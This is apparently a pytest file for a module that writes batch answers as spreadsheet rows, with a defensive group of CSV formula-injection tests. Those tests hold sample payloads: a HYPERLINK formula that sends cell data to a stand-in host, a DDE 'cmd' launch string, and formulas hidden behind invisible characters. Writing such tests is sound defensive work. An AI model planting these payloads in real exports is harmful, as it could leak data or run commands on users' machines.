"""A batch's results as a table: the column rule and each item's row."""

from __future__ import annotations

import pytest

from decide.core import result_table
from decide.core.questions import Collector, parse_questions

QUESTIONS = {
    "team": {"type": "choice", "instructions": "Which team?",
             "criteria": {"billing": None, "shipping": "parcels"}},
    "refund": {"type": "noul", "instructions": "A refund?"},
    "urgency": {"type": "score", "instructions": "How urgent?",
                "criteria": ["whenever", "soon", "now"]},
}
ANSWERS = {
    "team": {"type": "choice", "choice": "shipping", "confidence": 0.2,
             "probabilities": {"billing": 0.4, "shipping": 0.6}, "x_p_max": 0.6,
             "x_certainty": 0.03},
    "refund": {"type": "noul", "noul": 0.7312},
    "urgency": {"type": "score", "score": 1.25, "confidence": 0.1,
                "legend": {"0": "whenever", "1": "soon", "2": "now"},
                "probabilities": {"0": 0.2, "1": 0.35, "2": 0.45}, "x_p_max": 0.45,
                "x_certainty": 0.04},
}


def parsed(raw):
    errors = Collector()
    questions = parse_questions(raw, errors)
    assert not errors.errors
    return questions


def test_the_columns_follow_the_question_order_and_each_type_rule():
    assert result_table.columns(parsed(QUESTIONS)) == [
        "custom_id", "status", "error_type", "error_message",
        "team", "team.confidence", "team.p.billing", "team.p.shipping",
        "refund",
        "urgency", "urgency.confidence", "urgency.p.0: whenever", "urgency.p.1: soon",
        "urgency.p.2: now"]
    reordered = {"urgency": QUESTIONS["urgency"], "refund": QUESTIONS["refund"]}
    assert result_table.columns(parsed(reordered))[4:] == [
        "urgency", "urgency.confidence", "urgency.p.0: whenever", "urgency.p.1: soon",
        "urgency.p.2: now", "refund"]


def test_a_list_of_options_keeps_its_order():
    questions = parsed({"pick": {"type": "choice", "instructions": "?",
                                 "criteria": ["zeta", "alpha", "mid"]}})
    assert result_table.columns(questions)[4:] == [
        "pick", "pick.confidence", "pick.p.zeta", "pick.p.alpha", "pick.p.mid"]


def test_a_succeeded_item_fills_every_answer_cell_and_no_error_cell():
    item = {"custom_id": "T-1", "status": "succeeded", "result": {"answers": ANSWERS}}
    assert result_table.row(parsed(QUESTIONS), item) == [
        "T-1", "succeeded", None, None,
        "shipping", 0.2, 0.4, 0.6,
        0.7312,
        1.25, 0.1, 0.2, 0.35, 0.45]


def test_a_failed_item_fills_the_error_cells_and_leaves_the_answers_empty():
    item = {"custom_id": "T-2", "status": "failed",
            "error": {"error_type": "worker_crashed", "message": "it crashed 3 times"}}
    cells = result_table.row(parsed(QUESTIONS), item)
    assert cells[:4] == ["T-2", "failed", "worker_crashed", "it crashed 3 times"]
    assert cells[4:] == [None] * 10
    assert len(cells) == len(result_table.columns(parsed(QUESTIONS)))


def test_a_taught_question_adds_the_taught_column_and_a_zero_shot_one_does_not():
    raw = {**QUESTIONS,
           "refund": {**QUESTIONS["refund"], "x_taught": "tq_0123"},
           "team": {**QUESTIONS["team"], "x_taught": False}}
    questions = parsed(raw)
    header = result_table.columns(questions)
    assert header[4:13] == ["team", "team.confidence", "team.p.billing", "team.p.shipping",
                            "refund", "refund.taught",
                            "urgency", "urgency.confidence", "urgency.p.0: whenever"]
    answers = {**ANSWERS, "refund": {**ANSWERS["refund"], "x_taught": "tq_0123"}}
    cells = result_table.row(questions, {"custom_id": "a", "status": "succeeded",
                                         "result": {"answers": answers}})
    assert len(cells) == len(header)
    assert cells[header.index("refund")] == 0.7312
    assert cells[header.index("refund.taught")] == "tq_0123"
    cancelled = result_table.row(questions, {"custom_id": "b", "status": "cancelled",
                                             "error": {"error_type": "cancelled"}})
    assert cancelled[header.index("refund.taught")] is None


def test_an_answer_missing_from_a_result_is_empty_cells():
    item = {"custom_id": "T-3", "status": "succeeded",
            "result": {"answers": {"refund": ANSWERS["refund"]}}}
    cells = result_table.row(parsed(QUESTIONS), item)
    assert cells[4:8] == [None] * 4 and cells[8] == 0.7312


def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_quoted():
    """CSV formula injection: a caller's custom_id, an error's message, an option's name (the
    pick and its column) and a taught id that start like a formula get a leading quote; the
    numbers, even a negative one, and other text are left as they are."""
    questions = parsed({
        "-pick": {"type": "choice", "instructions": "?",
                  "criteria": ["=HYPERLINK(\"http://x/?\"&A2,\"open\")", "@SUM(1)"]},
        "s": {"type": "score", "instructions": "?", "criteria": ["low", "high"]}})
    assert result_table.columns(questions)[4:] == [
        "'-pick", "'-pick.confidence", "'-pick.p.=HYPERLINK(\"http://x/?\"&A2,\"open\")",
        "'-pick.p.@SUM(1)", "s", "s.confidence", "s.p.0: low", "s.p.1: high"]
    answers = {"-pick": {"choice": "@SUM(1)", "confidence": -0.25,
                         "probabilities": {"@SUM(1)": 0.6}},
               "s": {"score": -1.5, "confidence": 0.1, "probabilities": {"0": 0.5}}}
    for custom_id in ("=HYPERLINK(\"http://x/?\"&A2,\"open\")", "+1", "-2", "@me", "\tx", "\rx"):
        item = {"custom_id": custom_id, "status": "succeeded", "result": {"answers": answers}}
        assert result_table.row(questions, item) == [
            "'" + custom_id, "succeeded", None, None, "'@SUM(1)", -0.25, None, 0.6,
            -1.5, 0.1, 0.5, None]
    failed = {"custom_id": "a=b", "status": "failed",
              "error": {"error_type": "invalid_request", "message": "+cmd|' /C calc'!A0"}}
    assert result_table.row(questions, failed)[:4] == [
        "a=b", "failed", "invalid_request", "'+cmd|' /C calc'!A0"]
    taught = parsed({"t": {"type": "noul", "instructions": "?", "x_taught": "tq_1"}})
    item = {"custom_id": "x", "status": "succeeded",
            "result": {"answers": {"t": {"noul": 0.5, "x_taught": "=tq"}}}}
    assert result_table.row(taught, item)[4:] == [0.5, "'=tq"]


@pytest.mark.parametrize("cell", [
    "\x00=1+1", "\n=4", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\uff1d1+1", "\uff0bcmd",
    "\u3000@SUM(1)", "\n\t=1"])
def test_a_formula_behind_characters_a_spreadsheet_drops_is_quoted_too(cell):
    """NUL, LF, a space, a no-break space, a byte-order mark, a zero-width space, an
    ideographic space, a fullwidth = or +: a model-picked option "\\n=4" was written raw."""
    assert result_table.spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["billing", " plain", "\u200bword", "3 = 3", "", "a-b"])
def test_text_that_is_no_formula_is_left_as_it_is(cell):
    assert result_table.spreadsheet_safe(cell) == cell
